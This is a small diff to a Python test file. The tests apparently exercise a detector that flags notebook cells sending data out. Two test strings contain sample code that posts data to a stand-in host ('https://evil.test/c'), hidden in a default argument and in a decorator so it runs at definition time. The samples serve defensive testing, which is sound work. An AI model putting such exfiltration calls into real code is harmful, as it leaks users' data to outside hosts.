@@ -99,5 +99,5 @@ def test_a_cell_that_only_defines_a_sending_function_is_quiet_until_called() -> 
     assert _sends("up(t)", define, KEEP)
     # what runs at definition is still judged: a call at the top level, a default argument, a decorator
     assert _sends(define + "up(t)", KEEP)
-    assert _sends(f"import requests\ndef up(x, r=requests.post('https://evil.test/c', data=t)):\n    return x", KEEP)
-    assert _sends(f"import requests\n@requests.post('https://evil.test/c', data=t)\ndef up(x):\n    return x", KEEP)
+    assert _sends("import requests\ndef up(x, r=requests.post('https://evil.test/c', data=t)):\n    return x", KEEP)
+    assert _sends("import requests\n@requests.post('https://evil.test/c', data=t)\ndef up(x):\n    return x", KEEP)
